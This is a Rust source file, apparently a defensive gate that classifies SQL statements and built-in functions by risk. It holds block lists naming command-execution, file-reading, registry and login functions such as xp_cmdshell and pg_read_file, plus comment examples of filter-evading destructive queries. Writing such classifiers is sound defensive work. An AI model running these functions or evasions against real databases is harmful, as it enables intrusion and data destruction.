        "xp_cmdshell"
        | "sp_oacreate"
        | "sp_oamethod"
        | "sp_execute_external_script"
        | "sp_executesql"
        | "sys_exec"
        | "sys_eval"
        | "dblink_exec"
        | "dblink"
        | "dblink_send_query"
        | "dblink_open"
        | "dblink_fetch"
        | "lo_export"
        | "lo_unlink"
        | "load_extension"
        | "writefile"
        | "edit"
        | "fts3_tokenizer"
        | "pg_file_write"
        | "pg_file_unlink"
        | "pg_file_rename"
        | "pg_file_sync"
        | "query_to_xml"
        | "query_to_xml_and_xmlschema"
        | "query_to_xmlschema"
        | "cursor_to_xml"
        | "openquery"
        | "openrowset"
        | "opendatasource"
        | "pg_drop_replication_slot"
        | "pg_promote"
        | "xp_regwrite"
        | "xp_regdeletekey"
        | "xp_regdeletevalue"
        | "xp_servicecontrol" => Class::Destructive,
        // Read server files, reach the network, change settings, end
        // other sessions.
        "pg_read_file"
        | "pg_read_binary_file"
        | "pg_ls_dir"
        | "pg_stat_file"
        | "pg_ls_logdir"
        | "pg_ls_waldir"
        | "pg_ls_tmpdir"
        | "pg_ls_archive_statusdir"
        | "lo_import"
        | "load_file"
        | "readfile"
        | "set_config"
        | "pg_terminate_backend"
        | "pg_cancel_backend"
        | "pg_reload_conf"
        | "pg_rotate_logfile"
        | "pg_switch_wal"
        | "pg_create_restore_point"
        | "pg_backup_start"
        | "pg_backup_stop"
        | "pg_start_backup"
        | "pg_stop_backup"
        | "pg_logdir_ls"
        | "xp_regread"
        | "xp_dirtree"
        | "xp_fileexist"
        | "xp_subdirs"
        | "xp_availablemedia"
        | "sp_configure"
        | "sp_addlogin"
        | "sp_addsrvrolemember"
        | "sp_password"
        | "pg_create_logical_replication_slot"
        | "pg_create_physical_replication_slot"
        | "pg_replication_origin_create" => Class::Privilege,
        // Write without a write statement.
        "nextval" | "setval" | "lo_create" | "lo_creat" | "lo_put" | "lo_write"
        | "lo_from_bytea" | "lo_truncate" => Class::Write,
        // Hold the database for as long as the caller likes.
        "pg_sleep" | "pg_sleep_for" | "pg_sleep_until" | "sleep" | "benchmark" | "dbms_lock" => {
            Class::Other
        }
        _ => return None,
    })
}

/// Built-in functions of the engines that only compute a value: aggregates,
/// window functions, text, numbers, dates, JSON and arrays, casts and the
/// session's read-only facts. Anything else called from a query — a
/// function the database's users wrote above all — runs code the gate cannot
/// see, so a query calling it is not a read. Qualified names count only in
/// the engines' own catalogs (`pg_catalog.lower`, not `app.lower`). Sorted:
/// searched by bisection.
const KNOWN_READ_FUNCTIONS: &[&str] = &[
    "abs",
    "acos",
    "age",
    "any_value",
    // round 23: ClickHouse and Snowflake built-ins (attack22 everyday)
    "approx_count_distinct",
    "array_agg",
    "array_append",
    "array_cat",
    "array_length",
    "array_position",
    "array_remove",
    "array_to_json",
    "array_to_string",
    "ascii",
    "asin",
    "atan",
    "atan2",
    "avg",
    "bit_and",
    "bit_length",
    "bit_or",
    "bool_and",
    "bool_or",
    "btrim",
    "cardinality",
    "cast",
    "cbrt",
    "ceil",
    "ceiling",
    "char_length",
    "character_length",
    "charindex",
    "chr",
    "coalesce",
    "col_description",
    "concat",
    "concat_ws",
    "convert",
    "corr",
    "cos",
    "count",
    "count_big",
    // round 23: ClickHouse and Snowflake built-ins (attack22 everyday)
    "countif",
    "covar_pop",
    "covar_samp",
    "cume_dist",
    "current_database",
    "current_date",
    "current_schema",
    "current_time",
    "current_timestamp",
    "current_user",
    // round 23: ClickHouse and Snowflake built-ins (attack22 everyday)
    "current_warehouse",
    "date",
    "date_add",
    "date_bin",
    "date_format",
    "date_part",
    "date_sub",
    "date_trunc",
    "dateadd",
    "datediff",
    "datename",
    "datepart",
    "datetime",
    "day",
    "dayofmonth",
    "dayofweek",
    "dayofyear",
    "decode",
    "degrees",
    "dense_rank",
    "div",
    "encode",
    "every",
    "exp",
    "extract",
    "first_value",
    "floor",
    "format",
    "format_type",
    "from_unixtime",
    "gen_random_uuid",
    "generate_series",
    "getdate",
    "glob",
    "greatest",
    "group_concat",
    "has_table_privilege",
    "hour",
    "if",
    "ifnull",
    "iif",
    "initcap",
    "instr",
    "isnull",
    "json_agg",
    "json_array",
    "json_array_length",
    "json_arrayagg",
    "json_build_array",
    "json_build_object",
    "json_each",
    "json_each_text",
    "json_extract",
    "json_extract_path",
    "json_extract_path_text",
    "json_group_array",
    "json_group_object",
    "json_object",
    "json_object_agg",
    "json_objectagg",
    "json_query",
    "json_type",
    "json_unquote",
    "json_valid",
    "json_value",
    "jsonb_agg",
    "jsonb_array_elements",
    "jsonb_array_elements_text",
    "jsonb_array_length",
    "jsonb_build_array",
    "jsonb_build_object",
    "jsonb_each",
    "jsonb_each_text",
    "jsonb_extract_path",
    "jsonb_extract_path_text",
    "jsonb_object_agg",
    "jsonb_object_keys",
    "jsonb_path_query",
    "jsonb_pretty",
    "jsonb_set",
    "jsonb_typeof",
    "julianday",
    "lag",
    "last_day",
    "last_value",
    "lead",
    "least",
    "left",
    "len",
    "length",
    "like",
    "ln",
    "localtime",
    "localtimestamp",
    "locate",
    "log",
    "log10",
    "log2",
    "lower",
    "lpad",
    "ltrim",
    "make_date",
    "make_interval",
    "make_timestamp",
    "max",
    "md5",
    "median",
    "min",
    "minute",
    "mod",
    "mode",
    "month",
    "now",
    "nth_value",
    "ntile",
    "nullif",
    "nvl",
    "nvl2",
    "obj_description",
    "octet_length",
    "percent_rank",
    "percentile_cont",
    "percentile_disc",
    "pg_backend_pid",
    "pg_database_size",
    "pg_get_constraintdef",
    "pg_get_indexdef",
    "pg_get_serial_sequence",
    "pg_get_viewdef",
    "pg_indexes_size",
    "pg_is_in_recovery",
    "pg_postmaster_start_time",
    "pg_relation_size",
    "pg_size_pretty",
    "pg_table_size",
    "pg_total_relation_size",
    "pg_typeof",
    "pi",
    "position",
    "pow",
    "power",
    "printf",
    "quote",
    "radians",
    "random",
    "rank",
    "regexp_count",
    "regexp_instr",
    "regexp_like",
    "regexp_match",
    "regexp_matches",
    "regexp_replace",
    "regexp_split_to_array",
    "regexp_substr",
    "repeat",
    "replace",
    "reverse",
    "right",
    "round",
    "row_number",
    "rpad",
    "rtrim",
    "second",
    "sha1",
    "sha2",
    "sha256",
    "sign",
    "sin",
    "split_part",
    "sqrt",
    "starts_with",
    "stddev",
    "stddev_pop",
    "stddev_samp",
    "str_to_date",
    "strftime",
    "string_agg",
    "string_to_array",
    "strpos",
    "substr",
    "substring",
    "substring_index",
    "sum",
    "tan",
    "timestampdiff",
    "to_char",
    "to_date",
    "to_json",
    "to_jsonb",
    "to_number",
    "to_regclass",
    "to_timestamp",
    // round 23: ClickHouse and Snowflake built-ins (attack22 everyday)
    // round 23: ClickHouse and Snowflake built-ins (attack22 everyday)
    "todate",
    "tostartofday",
    // round 23: ClickHouse and Snowflake built-ins (attack22 everyday)
    "tostartofhour",
    // round 23: ClickHouse and Snowflake built-ins (attack22 everyday)
    "tostartofmonth",
    "total",
    "translate",
    "trim",
    "trunc",
    "typeof",
    "unhex",
    "unicode",
    // round 23: ClickHouse and Snowflake built-ins (attack22 everyday)
    "uniq",
    // round 23: ClickHouse and Snowflake built-ins (attack22 everyday)
    "uniqexact",
    "unix_timestamp",
    "unixepoch",
    "unnest",
    "upper",
    "utc_date",
    "utc_timestamp",
    "uuid",
    // MySQL's `ON DUPLICATE KEY UPDATE x = VALUES(x)`: the value the
    // INSERT would have written (round 18's everyday upsert)
    "values",
    "var_pop",
    "var_samp",
    "variance",
    "version",
    "week",
    "year",
];

fn known_read_function(name: &ObjectName) -> bool {
    let parts = n_parts(name);
    let (last, qualifiers) = match parts.split_last() {
        Some(split) => split,
        None => return false,
    };
    let catalog = match qualifiers {
        [] => true,
        [schema] => matches!(schema.as_str(), "pg_catalog" | "information_schema" | "sys"),
        _ => false,
    };
    catalog && KNOWN_READ_FUNCTIONS.binary_search(&last.as_str()).is_ok()
}

fn n_parts(name: &ObjectName) -> Vec<String> {
    name.0
        .iter()
        .map(|p| match p {
            ObjectNamePart::Identifier(id) => id.value.to_lowercase(),
            other => other.to_string().to_lowercase(),
        })
        .collect()
}

/// `SET` statements that change who the session is or what protects the
/// data; the rest (time zone, names, transaction modes, …) are control.
fn set_class(s: &sqlparser::ast::Set) -> Class {
    use sqlparser::ast::Set;
    match s {
        Set::SetRole { .. } | Set::SetSessionAuthorization(_) => return Class::Privilege,
        Set::SetTransaction { .. } | Set::SetTimeZone { .. } | Set::SetNames { .. } => {
            return Class::Control
        }
        _ => {}
    }
    let text = s.to_string().to_ascii_lowercase();
    const RISKY: &[&str] = &[
        "global",
        "persist",
        "role",
        "session_authorization",
        "session_replication_role",
        "sql_log_bin",
        "foreign_key_checks",
        "unique_checks",
        "local_infile",
        "secure_file_priv",
        "general_log",
        "slow_query_log",
        "log_statement",
        "allow_system_table_mods",
        "lo_compat_privileges",
        "read_only",
        "row_security",
        "search_path",
        "password",
        "writable_schema",
        "trusted_schema",
        "xact_abort",
    ];
    if RISKY.iter().any(|r| text.contains(r)) {
        Class::Privilege
    } else {
        Class::Control
    }
}

/// The class and kind of one statement, by what its own verb does; what it
/// nests is visited on its own.
fn statement(s: &Statement) -> Stmt {
    use Class::*;
    let (class, kind) = match s {
        Statement::Query(q) => {
            return Stmt {
                class: Read,
                kind: "select",
                has_where: query_where(q),
            }
        }
        Statement::Insert(i) => {
            if insert_into_function(&i.table) {
                // Round 19: ClickHouse's `INSERT INTO FUNCTION file(…)`,
                // `url(…)`, `remote(…)` write a file, a URL, another server.
                (Other, "insert")
            } else if i.overwrite || upsert_over_itself(i) {
                (Destructive, "insert")
            } else {
                (Write, "insert")
            }
        }
        Statement::Update(u) => {
            let mut targets = Vec::new();
            table_names(&u.table.relation, &mut targets);
            let joined = !u.table.joins.is_empty() || u.from.is_some();
            let f = row_filter(u.selection.as_ref(), &targets, joined);
            // Round 13: `UPDATE users … FROM users u2 WHERE users.id =
            // u2.id` joins the table to itself: every row finds its match.
            let mut others = Vec::new();
            for j in &u.table.joins {
                table_names(&j.relation, &mut others);
            }
            if let Some(from) = &u.from {
                let (UpdateTableFromKind::BeforeSet(t) | UpdateTableFromKind::AfterSet(t)) = from;
                for t in t {
                    table_names(&t.relation, &mut others);
                    for j in &t.joins {
                        table_names(&j.relation, &mut others);
                    }
                }
            }
            return changed_rows(self_joined(f, &targets, &others), "update");
        }
        Statement::Delete(d) => {
            let mut targets: Vec<String> = d
                .tables
                .iter()
                .filter_map(|n| n_parts(n).pop())
                .collect();
            let from = match &d.from {
                FromTable::WithFromKeyword(t) | FromTable::WithoutKeyword(t) => t,
            };
            for t in from {
                table_names(&t.relation, &mut targets);
            }
            let joined = d.using.is_some()
                || from.len() > 1
                || from.iter().any(|t: &TableWithJoins| !t.joins.is_empty());
            let f = row_filter(d.selection.as_ref(), &targets, joined);
            // Round 13: `DELETE FROM users USING users u2 WHERE users.id =
            // u2.id`, `DELETE u FROM users u JOIN users v ON …`: the table
            // joined to itself.
            let mut others = Vec::new();
            for t in d.using.iter().flatten() {
                table_names(&t.relation, &mut others);
                for j in &t.joins {
                    table_names(&j.relation, &mut others);
                }
            }
            for t in from {
                for j in &t.joins {
                    table_names(&j.relation, &mut others);
                }
            }
            let own: Vec<String> = from
                .iter()
                .filter_map(|t| match &t.relation {
                    TableFactor::Table { name, .. } => n_parts(name).pop(),
                    _ => None,
                })
                .collect();
            let f = if from.len() > 1 {
                // `DELETE … FROM users u, users v`
                let mut seen = Vec::new();
                if own.iter().any(|n| {
                    let dup = seen.contains(n);
                    seen.push(n.clone());
                    dup
                }) {
                    f.min(Filter::Ambiguous)
                } else {
                    f
                }
            } else {
                f
            };
            return changed_rows(self_joined(f, &own, &others), "delete");
        }
        // `MERGE … ON <cond> WHEN MATCHED THEN DELETE`: the ON picks the
        // target rows the matched actions change, as a WHERE would; `WHEN NOT
        // MATCHED BY SOURCE` changes every target row no source row matches.
        Statement::Merge(m) => {
            let mut targets = Vec::new();
            table_names(&m.table, &mut targets);
            let on = row_filter(Some(&m.on), &targets, true);
            let mut worst = Filter::Real;
            for c in &m.clauses {
                if matches!(c.action, MergeAction::Insert(_) | MergeAction::DoNothing { .. }) {
                    continue;
                }
                let pred = row_filter(c.predicate.as_ref(), &targets, true);
                let f = match c.clause_kind {
                    MergeClauseKind::Matched => on.max(pred),
                    MergeClauseKind::NotMatchedBySource => pred,
                    _ => Filter::Real,
                };
                worst = worst.min(f);
            }
            let mut st = changed_rows(worst, "update");
            if st.class == Write {
                st.has_where = false;
            }
            return st;
        }
        Statement::Copy { to, target, .. } => match target {
            CopyTarget::Program { .. } => (Destructive, "other"),
            CopyTarget::File { .. } => (Privilege, if *to { "select" } else { "insert" }),
            CopyTarget::Stdin => (Write, "insert"),
            CopyTarget::Stdout => (Read, "select"),
        },
        Statement::LoadData { .. } => (Privilege, "insert"),
        Statement::Truncate(_)
        | Statement::Drop { .. }
        | Statement::DropFunction(_)
        | Statement::DropDomain(_)
        | Statement::DropProcedure { .. }
        | Statement::DropSecret { .. }
        | Statement::DropPolicy(_)
        | Statement::DropRule(_)
        | Statement::DropConnector { .. }
        | Statement::DropExtension(_)
        | Statement::DropOperator(_)
        | Statement::DropOperatorFamily(_)
        | Statement::DropOperatorClass(_)
        | Statement::DropTrigger(_) => (Destructive, "ddl"),
        Statement::AlterTable(a) => {
            let ops: Vec<String> = a
                .operations
                .iter()
                .map(|o| o.to_string().to_ascii_uppercase())
                .collect();
            if ops.iter().any(|o| o.contains("OWNER TO")) {
                (Privilege, "ddl")
            } else if ops
                .iter()
                .any(|o| o.starts_with("DROP") || o.contains("TRUNCATE"))
            {
                (Destructive, "ddl")
            } else {
                (Schema, "ddl")
            }
        }
        Statement::AlterRole { .. }
        | Statement::AlterUser(_)
        | Statement::CreateRole(_)
        | Statement::CreateUser(_)
        | Statement::CreatePolicy(_)
        | Statement::AlterPolicy(_)
        | Statement::CreateUserMapping(_)
        | Statement::CreateServer(_)
        | Statement::CreateForeignDataWrapper(_)
        | Statement::CreateSecret { .. }
        | Statement::AlterDefaultPrivileges(_)
        // Code the database runs as itself.
        | Statement::CreateFunction(_)
        | Statement::AlterFunction(_)
        | Statement::CreateProcedure { .. }
        | Statement::CreateTrigger(_)
        | Statement::CreateExtension(_)
        | Statement::CreateMacro { .. }
        | Statement::CreateOperator(_)
        | Statement::CreateAggregate(_)
        | Statement::CreateRule(_) => (Privilege, "ddl"),
        Statement::Grant(_)
        | Statement::GrantRole(_)
        | Statement::Deny(_)
        | Statement::Revoke(_)
        | Statement::RevokeRole(_)
        | Statement::Kill { .. }
        | Statement::AttachDatabase { .. } => (Privilege, "other"),
        // `CREATE OR REPLACE TABLE` drops the table it replaces.
        Statement::CreateTable(t) if t.or_replace => (Destructive, "ddl"),
        Statement::CreateTable(_)
        | Statement::CreateView(_)
        | Statement::CreateIndex(_)
        | Statement::CreateVirtualTable { .. }
        | Statement::CreateSchema { .. }
        | Statement::CreateDatabase { .. }
        | Statement::CreateSequence { .. }
        | Statement::CreateType { .. }
        | Statement::CreateDomain(_)
        | Statement::CreateCollation(_)
        | Statement::CreateTextSearch(_)
        | Statement::CreateForeignTable(_)
        | Statement::AlterSchema(_)
        | Statement::AlterIndex { .. }
        | Statement::AlterView(_)
        | Statement::AlterType(_)
        | Statement::AlterCollation(_)
        | Statement::AlterTrigger(_)
        | Statement::Comment { .. }
        | Statement::RenameTable(_) => (Schema, "ddl"),
        Statement::RefreshMaterializedView(_) => (Write, "other"),
        Statement::Set(set) => (set_class(set), "other"),
        Statement::StartTransaction { .. }
        | Statement::Commit { .. }
        | Statement::Rollback { .. }
        | Statement::Savepoint { .. }
        | Statement::ReleaseSavepoint { .. }
        | Statement::Use(_)
        | Statement::Discard { .. }
        | Statement::Declare { .. }
        | Statement::Fetch { .. }
        | Statement::Close { .. }
        | Statement::Deallocate { .. }
        | Statement::Prepare { .. }
        | Statement::Analyze(_)
        | Statement::Vacuum(_)
        | Statement::Reset(_)
        | Statement::Lock(_)
        | Statement::LockTables { .. }
        | Statement::UnlockTables
        | Statement::LISTEN { .. }
        | Statement::UNLISTEN { .. }
        | Statement::NOTIFY { .. } => (Control, "other"),
        Statement::ShowFunctions { .. }
        | Statement::ShowVariable { .. }
        | Statement::ShowStatus { .. }
        | Statement::ShowVariables { .. }
        | Statement::ShowCreate { .. }
        | Statement::ShowColumns { .. }
        | Statement::ShowCatalogs { .. }
        | Statement::ShowDatabases { .. }
        | Statement::ShowProcessList { .. }
        | Statement::ShowSchemas { .. }
        | Statement::ShowCharset(_)
        | Statement::ShowObjects(_)
        | Statement::ShowTables { .. }
        | Statement::ShowViews { .. }
        | Statement::ShowCollation { .. }
        | Statement::ExplainTable { .. }
        // `EXPLAIN ANALYZE`: the statement it runs is visited on its own.
        | Statement::Explain { .. } => (Read, "other"),
        // `PRAGMA x = v` and `PRAGMA x(v)` set, except the pragmas that
        // only describe the schema.
        Statement::Pragma {
            name, value, is_eq, ..
        } => {
            let n = n_parts(name);
            let describes = n.last().is_some_and(|p| describing_pragma(p));
            let reports = n.last().is_some_and(|p| reporting_pragma(&p.to_ascii_lowercase()));
            if (value.is_none() && reports) || (describes && !*is_eq) {
                (Read, "other")
            } else {
                (Other, "other")
            }
        }
        // A procedure or prepared statement the gate cannot see.
        Statement::Call(f) => (function_class(&f.name).unwrap_or(Other).max(Other), "other"),
        Statement::Execute { name, .. } => (
            name.as_ref()
                .and_then(function_class)
                .unwrap_or(Other)
                .max(Other),
            "other",
        ),
        _ => (Other, "other"),
    };
    Stmt::new(class, kind)
}

/// A SELECT's own WHERE (the first SELECT of its body), folded.
/// Round 18: an upsert fed by its own table (`INSERT INTO users SELECT *
/// FROM users ON CONFLICT (id) DO UPDATE SET email = NULL`, `… ON
/// DUPLICATE KEY UPDATE`, MySQL's `REPLACE INTO users SELECT * FROM
/// users`, SQLite's `INSERT OR REPLACE`): every source row conflicts with
/// the row it came from, so the SET — or REPLACE's delete, which fires
/// `ON DELETE CASCADE` — reaches every row, as an UPDATE without WHERE
/// does. Held as one unless the source picks rows with a real WHERE or
/// the `DO UPDATE … WHERE` does.
fn upsert_over_itself(i: &sqlparser::ast::Insert) -> bool {
    use sqlparser::ast::{OnConflictAction, OnInsert, SqliteOnConflict, TableObject};
    let update_where = match &i.on {
        Some(OnInsert::DuplicateKeyUpdate(a)) if !a.is_empty() => {
            if copies_itself(i, a) {
                return false;
            }
            None
        }
        Some(OnInsert::OnConflict(c)) => match &c.action {
            OnConflictAction::DoUpdate(d) => {
                if copies_itself(i, &d.assignments) {
                    return false;
                }
                Some(d.selection.as_ref())
            }
            OnConflictAction::DoNothing => return false,
        },
        _ if i.replace_into || i.or == Some(SqliteOnConflict::Replace) => None,
        _ => return false,
    };
    if update_where.is_some_and(|w| real_where(w)) {
        return false;
    }
    let (TableObject::TableName(name), Some(source)) = (&i.table, &i.source) else {
        return false;
    };
    let Some(target) = n_parts(name).pop() else {
        return false;
    };
    if query_where(source) {
        return false;
    }
    let mut own = false;
    let _ = sqlparser::ast::visit_relations(source.as_ref(), |r| {
        if n_parts(r).pop().as_deref() == Some(target.as_str()) {
            own = true;
            return ControlFlow::Break(());
        }
        ControlFlow::Continue(())
    });
    own
}

/// `INSERT INTO t SELECT * FROM t … DO UPDATE SET a = excluded.a` (or
/// MySQL's `a = VALUES(a)`): each row is set to its own values, which
/// changes nothing (round 13 judged it so). Only a bare `SELECT *` with no
/// column list keeps every column in its place; a computed source
/// (`SELECT id, 'admin' …`) makes `excluded.role` a new value.
fn copies_itself(i: &sqlparser::ast::Insert, set: &[sqlparser::ast::Assignment]) -> bool {
    use sqlparser::ast::AssignmentTarget;
    let star = i.columns.is_empty()
        && i.source.as_deref().is_some_and(|q| match q.body.as_ref() {
            SetExpr::Select(s) => {
                !s.projection.is_empty()
                    && s.projection.iter().all(|p| {
                        matches!(
                            p,
                            SelectItem::Wildcard(_) | SelectItem::QualifiedWildcard(..)
                        )
                    })
            }
            _ => false,
        });
    star && !set.is_empty()
        && set.iter().all(|a| {
            let AssignmentTarget::ColumnName(col) = &a.target else {
                return false;
            };
            let Some(col) = n_parts(col).pop() else {
                return false;
            };
            let from = match &a.value {
                Expr::CompoundIdentifier(p) if p.len() == 2 => p
                    .first()
                    .is_some_and(|x| x.value.eq_ignore_ascii_case("excluded"))
                    .then(|| p.get(1).map(|c| c.value.to_lowercase()))
                    .flatten(),
                Expr::Function(f) if n_parts(&f.name).pop().as_deref() == Some("values") => {
                    match &f.args {
                        FunctionArguments::List(l) if l.args.len() == 1 => match l.args.first() {
                            Some(FunctionArg::Unnamed(FunctionArgExpr::Expr(e))) => column_name(e),
                            _ => None,
                        },
                        _ => None,
                    }
                }
                _ => None,
            };
            from.as_deref() == Some(col.as_str())
        })
}

fn query_where(q: &Query) -> bool {
    match q.body.as_ref() {
        SetExpr::Select(s) => real_where(s.selection.as_ref()),
        _ => false,
    }
}

/// A WHERE that some row can fail: present, and not a tautology.
fn real_where(e: Option<&Expr>) -> bool {
    e.is_some_and(|e| !tautology(e, 0))
}

/// How a condition picks the rows an UPDATE, DELETE or MERGE changes, from
/// least to most selective.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
enum Filter {
    /// No condition, a tautology, or one that reads no column of the rows
    /// changed (`WHERE now() > '2000-01-01'`, `WHERE (SELECT 1) = 1`,
    /// `WHERE EXISTS (SELECT * FROM users)`): every row or none.
    None,
    /// It may read the rows changed only through a name the gate cannot
    /// place: an unqualified name inside a subquery (its own column or the
    /// outer row's), or one in a statement that joins other tables.
    Ambiguous,
    /// It reads a column of the rows changed.
    Real,
}

/// The statement a row change is, by how its condition picks the rows.
fn changed_rows(f: Filter, kind: &'static str) -> Stmt {
    let class = match f {
        Filter::Real => Class::Write,
        Filter::Ambiguous => Class::Other,
        Filter::None => Class::Destructive,
    };
    Stmt {
        class,
        kind,
        has_where: f == Filter::Real,
    }
}

/// A row change whose statement joins a table it changes to itself again
/// is not shown to pick rows (the join on the key matches every row).
fn self_joined(f: Filter, targets: &[String], others: &[String]) -> Filter {
    if f == Filter::Real && others.iter().any(|o| targets.contains(o)) {
        Filter::Ambiguous
    } else {
        f
    }
}

/// The names a table factor brings into scope: the table's own (last part)
/// and its alias, lowercased.
fn table_names(t: &TableFactor, out: &mut Vec<String>) {
    if let TableFactor::Table { name, .. } = t {
        if let Some(last) = n_parts(name).pop() {
            out.push(last);
        }
    }
    let alias = match t {
        TableFactor::Table { alias, .. }
        | TableFactor::Derived { alias, .. }
        | TableFactor::Function { alias, .. }
        | TableFactor::UNNEST { alias, .. } => alias.as_ref(),
        _ => None,
    };
    if let Some(a) = alias {
        out.push(a.name.value.to_lowercase());
    }
}

/// See [`Filter`]. `targets`: the names of the rows changed; `joined`:
/// other tables are in scope, so an unqualified name may be theirs.
fn row_filter(e: Option<&Expr>, targets: &[String], joined: bool) -> Filter {
    let Some(e) = e else {
        return Filter::None;
    };
    if covers(e, targets, 0) {
        return Filter::None;
    }
    // A condition no row meets (`WHERE 1 = 2`) changes nothing.
    if fold(e, 0).and_then(|k| k.truthy()) == Some(false) {
        return Filter::Real;
    }
    let mut r = Refs {
        targets,
        joined,
        scopes: Vec::new(),
        found: Filter::None,
    };
    let _ = e.visit(&mut r);
    // Round 13: a condition built of what the reader has no model of may
    // hold for every row (`id > 5 XOR id <= 5`, `CASE … THEN 1 ELSE 1
    // END = 1`, `greatest(id, 0) >= least(id, 0)`): it is not shown to
    // pick rows, so the statement is no plain write.
    if r.found == Filter::Real && unprovable(e) {
        return Filter::Ambiguous;
    }
    r.found
}

/// Whether a condition holds something the WHERE reading cannot judge and
/// that can make it hold for every row (round 13, the constructs round 12
/// left open): XOR; CASE; a row value compared; a comparison, a test or
/// a connective used as a number or an argument (`(id > 5) + (id <= 5) =
/// 1`, `COALESCE(id > 5, true)`, `(id > 5)::int`); a comparison whose two
/// sides read one column, one of them through a call, arithmetic or a
/// subquery (`greatest(id, 0) >= least(id, 0)`, `name || '' = name`, `id <=
/// (SELECT max(id) FROM users)`). Two plain columns (`a.x = b.x`, a join)
/// are read as before.
fn unprovable(e: &Expr) -> bool {
    struct U(bool);
    impl Visitor for U {
        type Break = ();
        fn pre_visit_expr(&mut self, e: &Expr) -> ControlFlow<()> {
            self.0 = match e {
                Expr::BinaryOp {
                    op: BinaryOperator::Xor,
                    ..
                }
                | Expr::Case { .. } => true,
                Expr::BinaryOp { left, op, right } if comparison(op) => {
                    let (l, r) = (canon(left), canon(right));
                    matches!(l, Expr::Tuple(_))
                        || matches!(r, Expr::Tuple(_))
                        || boolish(l)
                        || boolish(r)
                        || one_column_twice(l, r)
                }
                // arithmetic, concatenation, bit operators: not AND / OR
                Expr::BinaryOp { left, op, right }
                    if !matches!(op, BinaryOperator::And | BinaryOperator::Or) =>
                {
                    boolish(left) || boolish(right)
                }
                Expr::In { expr, .. } => matches!(canon(expr), Expr::Tuple(_)),
                Expr::Cast { expr, .. } | Expr::UnaryOp { expr, .. }
                    if !matches!(e, Expr::UnaryOp { op: UnaryOperator::Not, .. }) =>
                {
                    boolish(expr)
                }
                Expr::Function(f) => match &f.args {
                    FunctionArguments::List(list) => list.args.iter().any(|a| {
                        matches!(a, FunctionArg::Unnamed(FunctionArgExpr::Expr(x)) if boolish(x))
                    }),
                    _ => false,
                },
                _ => false,
            };
            if self.0 {
                ControlFlow::Break(())
            } else {
                ControlFlow::Continue(())
            }
        }
    }
    let mut u = U(false);
    let _ = e.visit(&mut u);
    u.0
}

/// Both sides of a comparison read one column, one of them through a
/// call, a product, a concatenation or a subquery (the same expression on
/// both sides, two plain columns and sums of plain columns are read
/// elsewhere).
fn one_column_twice(l: &Expr, r: &Expr) -> bool {
    if same(l, r) || (plain_column(l) && plain_column(r)) || (linear(l) && linear(r)) {
        return false;
    }
    let (a, b) = (columns_of(l), columns_of(r));
    a.iter().any(|c| b.contains(c))
}

fn comparison(op: &BinaryOperator) -> bool {
    matches!(
        op,
        BinaryOperator::Eq
            | BinaryOperator::NotEq
            | BinaryOperator::Lt
            | BinaryOperator::Gt
            | BinaryOperator::LtEq
            | BinaryOperator::GtEq
            | BinaryOperator::Spaceship
    )
}

/// A value that is a truth value: a comparison, a connective, a test.
fn boolish(e: &Expr) -> bool {
    match canon(e) {
        Expr::BinaryOp { op, .. } => {
            comparison(op)
                || matches!(
                    op,
                    BinaryOperator::And | BinaryOperator::Or | BinaryOperator::Xor
                )
        }
        Expr::UnaryOp {
            op: UnaryOperator::Not,
            ..
        } => true,
        Expr::IsNull(_)
        | Expr::IsNotNull(_)
        | Expr::IsTrue(_)
        | Expr::IsFalse(_)
        | Expr::IsNotTrue(_)
        | Expr::IsNotFalse(_)
        | Expr::IsDistinctFrom(..)
        | Expr::IsNotDistinctFrom(..)
        | Expr::Like { .. }
        | Expr::ILike { .. }
        | Expr::SimilarTo { .. }
        | Expr::RLike { .. }
        | Expr::Between { .. }
        | Expr::In { .. }
        | Expr::Exists { .. } => true,
        _ => false,
    }
}

/// A sum of columns times constants, which [`difference`] compares (`id +
/// 1 = id * 2` picks the row where `id` is 1).
/// Calls, products and concatenations are terms of a [`Linear`] too,
/// opaque ones: here every term is a plain column.
fn linear(e: &Expr) -> bool {
    let mut l = Linear::default();
    l.add(e, 1.0, 0).is_some()
        && l.terms.iter().all(|(n, _)| {
            n.chars()
                .all(|c| c.is_alphanumeric() || "_.\"`".contains(c))
        })
}

fn plain_column(e: &Expr) -> bool {
    matches!(e, Expr::Identifier(_) | Expr::CompoundIdentifier(_))
}

/// The column names an expression reads (last part, lowercased), its
/// subqueries' included.
fn columns_of(e: &Expr) -> Vec<String> {
    struct C(Vec<String>);
    impl Visitor for C {
        type Break = ();
        fn pre_visit_expr(&mut self, e: &Expr) -> ControlFlow<()> {
            match e {
                Expr::Identifier(i) => self.0.push(i.value.to_lowercase()),
                Expr::CompoundIdentifier(parts) => {
                    if let Some(p) = parts.last() {
                        self.0.push(p.value.to_lowercase());
                    }
                }
                _ => {}
            }
            if self.0.len() > 64 {
                ControlFlow::Break(())
            } else {
                ControlFlow::Continue(())
            }
        }
    }
    let mut c = C(Vec::new());
    let _ = e.visit(&mut c);
    c.0
}

/// Walks a condition for the names it reads, with the names each subquery
/// brings into scope.
struct Refs<'a> {
    targets: &'a [String],
    joined: bool,
    scopes: Vec<Vec<String>>,
    found: Filter,
}

impl Visitor for Refs<'_> {
    type Break = ();

    fn pre_visit_query(&mut self, _: &Query) -> ControlFlow<()> {
        self.scopes.push(Vec::new());
        ControlFlow::Continue(())
    }

    fn post_visit_query(&mut self, _: &Query) -> ControlFlow<()> {
        self.scopes.pop();
        ControlFlow::Continue(())
    }

    fn pre_visit_select(&mut self, s: &Select) -> ControlFlow<()> {
        if let Some(scope) = self.scopes.last_mut() {
            for t in &s.from {
                table_names(&t.relation, scope);
                for j in &t.joins {
                    table_names(&j.relation, scope);
                }
            }
        }
        ControlFlow::Continue(())
    }

    fn pre_visit_expr(&mut self, e: &Expr) -> ControlFlow<()> {
        let seen = match e {
            Expr::Identifier(_) if self.scopes.is_empty() && !self.joined => Filter::Real,
            Expr::Identifier(_) => Filter::Ambiguous,
            Expr::CompoundIdentifier(parts) => {
                let q = parts
                    .len()
                    .checked_sub(2)
                    .and_then(|i| parts.get(i))
                    .map(|p| p.value.to_lowercase())
                    .unwrap_or_default();
                if self.scopes.iter().any(|s| s.contains(&q)) {
                    // a subquery's own table
                    Filter::None
                } else if self.targets.contains(&q) {
                    Filter::Real
                } else {
                    Filter::Ambiguous
                }
            }
            _ => Filter::None,
        };
        self.found = self.found.max(seen);
        if self.found == Filter::Real {
            ControlFlow::Break(())
        } else {
            ControlFlow::Continue(())
        }
    }
}

/// A constant, as the engines compare them.
